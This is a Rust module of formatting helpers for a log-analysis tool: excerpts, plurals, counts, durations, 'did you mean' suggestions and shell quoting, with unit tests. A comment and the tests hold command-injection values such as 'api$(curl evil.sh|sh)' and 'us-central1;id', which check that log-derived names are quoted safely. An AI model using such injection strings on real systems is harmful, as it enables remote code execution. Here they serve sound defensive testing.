//! Numbers and durations written for people, and text cut to a length; shared by
//! rules, analyze, report and commands.

/// The first `n` characters of `s`.
pub fn cut_chars(s: &str, n: usize) -> &str {
    // No more bytes than `n` means no more characters: nothing to walk.
    if s.len() <= n {
        return s;
    }
    match s.char_indices().nth(n) {
        Some((i, _)) => &s[..i],
        None => s,
    }
}

/// Marks where an excerpt leaves text out.
pub const ELISION: &str = " … ";

/// Characters of a message's opening kept before the elision when the match lies
/// further in: a traceback's first line or a log line's prefix.
const EXCERPT_HEAD: usize = 120;

/// Characters before the match the window may reach back to the start of its word.
const EXCERPT_WORD_BACK: usize = 40;

/// At most `max` characters of `s` (plus elision marks) that hold `at`, the byte range
/// the rule matched: the opening alone when the match is in it, else a short opening,
/// [`ELISION`], and the match with what follows, from the start of its line when that
/// is near, else of its word (a secret's name and value stay together or out). A
/// trailing mark says the text goes on.
pub fn excerpt(s: &str, at: Option<std::ops::Range<usize>>, max: usize) -> String {
    let head = cut_chars(s, max);
    let at = at.filter(|r| r.start <= r.end && r.end <= s.len() && s.is_char_boundary(r.start));
    let Some(at) = at.filter(|r| r.end > head.len()) else {
        let mut out = head.to_string();
        if head.len() < s.len() {
            out.push_str(ELISION.trim_end());
        }
        return out;
    };
    let head = cut_chars(s, EXCERPT_HEAD.min(max / 2));
    // End the opening at a line's end, else a word's, when one is in its second half.
    let half = (head.len() / 2..head.len())
        .find(|&i| head.is_char_boundary(i))
        .unwrap_or(head.len());
    let head = match (
        head[half..].rfind('\n'),
        head[half..].rfind(char::is_whitespace),
    ) {
        (Some(i), _) | (None, Some(i)) => &head[..half + i],
        (None, None) => head,
    }
    .trim_end();
    let before = &s[..at.start];
    let back = |n: usize| {
        before
            .char_indices()
            .rev()
            .nth(n.saturating_sub(1))
            .map_or(0, |(i, _)| i)
    };
    let line = before.rfind('\n').map_or(0, |i| i + 1);
    let word = before.rfind(char::is_whitespace).map_or(0, |i| {
        i + before[i..].chars().next().map_or(1, char::len_utf8)
    });
    // Up to two thirds of the window before the match, for the start of its line.
    let budget = max.saturating_sub(head.chars().count());
    let start = if line >= back(budget * 2 / 3) {
        line
    } else if word >= back(EXCERPT_WORD_BACK) {
        word
    } else {
        at.start
    }
    .max(head.len());
    let rest = &s[start..];
    let window = cut_chars(rest, budget);
    let mut out = String::with_capacity(head.len() + window.len() + 8);
    out.push_str(head);
    if start > head.len() {
        out.push_str(ELISION);
        out.push_str(window.trim_start_matches([' ', '\t']));
    } else {
        out.push_str(window);
    }
    if window.len() < rest.len() {
        out.push_str(ELISION.trim_end());
    }
    out
}

/// The noun for `n`: `one` for 1, else `many`.
pub fn plural<'a>(n: u64, one: &'a str, many: &'a str) -> &'a str {
    if n == 1 {
        one
    } else {
        many
    }
}

/// "1 match", "1,204 matches": a count with its noun in the number it needs.
pub fn counted(n: u64, one: &str, many: &str) -> String {
    format!("{} {}", fmt_count(n), plural(n, one, many))
}

/// `shown` joined with ", ", then "and N more" when the list held `total` items: a
/// list cut short says so.
pub fn join_more(shown: &[String], total: usize) -> String {
    let mut out = shown.join(", ");
    out.push_str(&and_more(total.saturating_sub(shown.len()) as u64, false));
    out
}

/// ", and N more" (", and about N more" for an estimate), or nothing for none.
pub fn and_more(n: u64, about: bool) -> String {
    match n {
        0 => String::new(),
        n => format!(
            ", and {}{} more",
            if about { "about " } else { "" },
            fmt_count(n)
        ),
    }
}

/// "5,288 distinct", or "about 5,288 distinct" for an estimate.
pub fn distinct(n: u64, about: bool) -> String {
    format!(
        "{}{} distinct",
        if about { "about " } else { "" },
        fmt_count(n)
    )
}

/// `template` with the noun after each `{count}` made singular, for a count of 1:
/// "{count} times" reads "1 time", "{count} database connectivity failures" reads "1
/// database connectivity failure". The noun is the first of the next three words that
/// ends in a plural `s` (not `ss`); rule templates put it there.
pub fn singular_after_count(template: &str) -> String {
    const MARK: &str = "{count}";
    let mut out = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(i) = rest.find(MARK) {
        let (before, after) = rest.split_at(i + MARK.len());
        out.push_str(before);
        let words: Vec<(usize, &str)> = after
            .split(' ')
            .scan(0usize, |at, w| {
                let here = *at;
                *at += w.len() + 1;
                Some((here, w))
            })
            .skip(1)
            .take(3)
            .collect();
        let noun = words.iter().find_map(|&(at, w)| {
            let word = w.trim_end_matches(|c: char| !c.is_alphanumeric());
            (word.len() > 2 && word.ends_with('s') && !word.ends_with("ss")).then_some((at, word))
        });
        match noun {
            Some((at, word)) => {
                let one = if let Some(stem) = word.strip_suffix("ies") {
                    format!("{stem}y")
                } else if ["ches", "shes", "sses", "xes"]
                    .iter()
                    .any(|e| word.ends_with(e))
                {
                    word[..word.len() - 2].to_string()
                } else {
                    word[..word.len() - 1].to_string()
                };
                out.push_str(&after[..at]);
                out.push_str(&one);
                rest = &after[at + word.len()..];
            }
            None => rest = after,
        }
    }
    out.push_str(rest);
    out
}

/// What an empty name (no service or revision) shows as in reports.
pub const NO_NAME: &str = "(none)";

/// A name as inline code, or [`NO_NAME`] when empty: an empty code span renders as two
/// literal backticks on GitHub.
pub fn code_name(s: &str) -> String {
    if s.is_empty() {
        NO_NAME.into()
    } else {
        format!("`{s}`")
    }
}

/// Control characters and bidi marks and overrides: text from logs or file names
/// that can move a terminal's cursor or show other text than it holds.
pub fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// `s` as one shell word: as it is when it holds only characters no shell treats
/// specially (all that Cloud Run names and regions use), else single-quoted. Values in
/// suggested commands come from the logs, so a service named `api$(curl x|sh)` must
/// not run anything when the command is pasted. Control and bidi characters, which
/// could hide what the command does, are dropped.
pub fn shell_word(s: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-./:=@%+,".contains(c);
    if !s.is_empty() && s.chars().all(plain) {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars().filter(|&c| !is_hidden(c)) {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

/// 1234567 -> "1,234,567".
pub fn fmt_count(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::with_capacity(s.len() + s.len() / 3);
    for (i, c) in s.chars().enumerate() {
        if i > 0 && (s.len() - i) % 3 == 0 {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// Edit distance (insertions, deletions, substitutions) between two strings, in
/// characters.
pub fn edit_distance(a: &str, b: &str) -> usize {
    let b: Vec<char> = b.chars().collect();
    let mut row: Vec<usize> = (0..=b.len()).collect();
    for (i, ca) in a.chars().enumerate() {
        let mut diag = row[0];
        row[0] = i + 1;
        for (j, &cb) in b.iter().enumerate() {
            let up = row[j + 1];
            row[j + 1] = (diag + usize::from(ca != cb)).min(up + 1).min(row[j] + 1);
            diag = up;
        }
    }
    row[b.len()]
}

/// The candidate `name` was most likely meant to be, for "did you mean": equal but
/// for case, a few characters off (a third of the name at most), or holding it or
/// held by it (`api` for `api-staging`). The closest wins, then the earlier one.
pub fn did_you_mean<'c>(name: &str, candidates: &[&'c str]) -> Option<&'c str> {
    let want = name.to_lowercase();
    let far = (want.chars().count() / 3).max(1);
    let mut best: Option<(usize, &str)> = None;
    for &c in candidates {
        let have = c.to_lowercase();
        if c.is_empty() || c == name {
            continue;
        }
        let d = edit_distance(&want, &have);
        let contained = want.len() >= 3 && (have.contains(&want) || want.contains(&have));
        let score = if d <= far {
            d
        } else if contained {
            far + 1
        } else {
            continue;
        };
        if best.is_none_or(|(b, _)| score < b) {
            best = Some((score, c));
        }
    }
    best.map(|(_, c)| c)
}

/// Seconds as "45s", "12m 05s" or "2h 10m".
pub fn fmt_span(secs: i64) -> String {
    let secs = secs.max(0);
    let (h, m, s) = (secs / 3600, (secs % 3600) / 60, secs % 60);
    match (h, m) {
        (0, 0) => format!("{s}s"),
        (0, _) => format!("{m}m {s:02}s"),
        _ => format!("{h}h {m:02}m"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn edit_distance_and_did_you_mean() {
        assert_eq!(edit_distance("", "abc"), 3);
        assert_eq!(edit_distance("kitten", "sitting"), 3);
        assert_eq!(edit_distance("svc-a", "svc-a"), 0);
        let names = ["netra-backend-staging", "svc-a", "auth"];
        assert_eq!(did_you_mean("SVC-A", &names), Some("svc-a"));
        assert_eq!(did_you_mean("svca", &names), Some("svc-a"));
        assert_eq!(
            did_you_mean("netra-backnd-staging", &names),
            Some("netra-backend-staging")
        );
        assert_eq!(
            did_you_mean("netra-backend", &names),
            Some("netra-backend-staging")
        );
        assert_eq!(did_you_mean("billing", &names), None);
        assert_eq!(did_you_mean("x", &names), None);
        // The closest wins.
        assert_eq!(
            did_you_mean("svc-b", &["svc-bb", "svc-b1", "svc-B"]),
            Some("svc-B")
        );
    }

    #[test]
    fn excerpts_hold_the_match() {
        // A traceback whose error line is past the cut (review s27, fx/f6b).
        let frames = "  File \"/usr/lib/python3.12/site-packages/sqlalchemy/engine/base.py\", line 1, in x\n    self.run()\n".repeat(14);
        let tb = format!("Traceback (most recent call last):\n{frames}sqlalchemy.exc.OperationalError: connection to server at \"10.20.0.3\", port 5432 failed: Connection refused\n\tIs the server running?");
        let at = tb.find("Connection refused").map(|i| i..i + 18);
        let x = excerpt(&tb, at, 500);
        assert!(x.starts_with("Traceback (most recent call last):"), "{x}");
        assert!(x.contains(ELISION), "{x}");
        assert!(
            x.contains("\nsqlalchemy.exc.OperationalError")
                || x.contains(" … sqlalchemy.exc.OperationalError"),
            "{x}"
        );
        assert!(x.contains("Connection refused"), "{x}");
        assert!(x.ends_with("Is the server running?"), "{x}");
        assert!(x.chars().count() <= 500 + ELISION.chars().count(), "{x}");
        // The match in the opening: the opening, marked as cut.
        let long = format!("connection refused {}", "x ".repeat(400));
        let x = excerpt(&long, Some(0..18), 500);
        assert_eq!(x.chars().count(), 502);
        assert!(
            x.starts_with("connection refused") && x.ends_with(" …"),
            "{x}"
        );
        // No match known: the opening, as before.
        assert_eq!(excerpt(&long, None, 500), x);
        // Short text is whole.
        assert_eq!(excerpt("abc", Some(0..3), 500), "abc");
        // Far into one long line: from the start of the match's word, so a secret's
        // name before it is out rather than cut from its value.
        let line = format!(
            "{}password=hunter2 db=orders ECONNREFUSED 10.0.0.1:5432 {}",
            "a".repeat(600),
            "b ".repeat(400)
        );
        let at = line.find("ECONNREFUSED").map(|i| i..i + 12);
        let x = excerpt(&line, at, 500);
        assert!(x.contains(" … ECONNREFUSED 10.0.0.1:5432"), "{x}");
        assert!(!x.contains("hunter2"), "{x}");
        assert!(x.ends_with(" …"), "{x}");
        // Multi-byte text, a range off a boundary: no panic, the opening.
        let wide = "é".repeat(600);
        assert_eq!(excerpt(&wide, Some(1..3), 500).chars().count(), 502);
        let at = Some(wide.len() - 2..wide.len());
        assert!(excerpt(&wide, at, 500).ends_with('é'));
    }

    #[test]
    fn plurals_and_cut_lists() {
        assert_eq!(counted(1, "match", "matches"), "1 match");
        assert_eq!(counted(1204, "match", "matches"), "1,204 matches");
        assert_eq!(counted(0, "entry", "entries"), "0 entries");
        let xs: Vec<String> = ["a", "b", "c"].iter().map(|s| s.to_string()).collect();
        assert_eq!(join_more(&xs, 3), "a, b, c");
        assert_eq!(join_more(&xs, 7), "a, b, c, and 4 more");
        assert_eq!(and_more(4996, true), ", and about 4,996 more");
        assert_eq!(and_more(0, true), "");
        assert_eq!(distinct(52_032, true), "about 52,032 distinct");
        let one = |t: &str| singular_after_count(t);
        assert_eq!(
            one("{service} {count} times (x)"),
            "{service} {count} time (x)"
        );
        assert_eq!(
            one("reported {count} database connectivity failures between"),
            "reported {count} database connectivity failure between"
        );
        assert_eq!(
            one("{count} entries show {user_id}"),
            "{count} entry show {user_id}"
        );
        assert_eq!(one("{count} times)."), "{count} time).");
        assert_eq!(
            one("{count} requests to {service} and {count} checks"),
            "{count} request to {service} and {count} check"
        );
        assert_eq!(
            one("{count} x 403 for {user_id}"),
            "{count} x 403 for {user_id}"
        );
        assert_eq!(one("no count"), "no count");
    }

    #[test]
    fn counts_and_spans() {
        assert_eq!(fmt_count(0), "0");
        assert_eq!(fmt_count(1204), "1,204");
        assert_eq!(fmt_count(1_234_567), "1,234,567");
        assert_eq!(fmt_span(45), "45s");
        assert_eq!(fmt_span(725), "12m 05s");
        assert_eq!(fmt_span(7800), "2h 10m");
        assert_eq!(fmt_span(-3), "0s");
    }

    #[test]
    fn shell_words_cannot_run_anything() {
        assert_eq!(shell_word("netra-backend-staging"), "netra-backend-staging");
        assert_eq!(shell_word("svc-00611-cr5=100"), "svc-00611-cr5=100");
        assert_eq!(
            shell_word("api$(curl evil.sh|sh)"),
            "'api$(curl evil.sh|sh)'"
        );
        assert_eq!(shell_word("us-central1;id"), "'us-central1;id'");
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word(""), "''");
        assert_eq!(shell_word("a\u{202e}b\n"), "'ab'");
    }
}
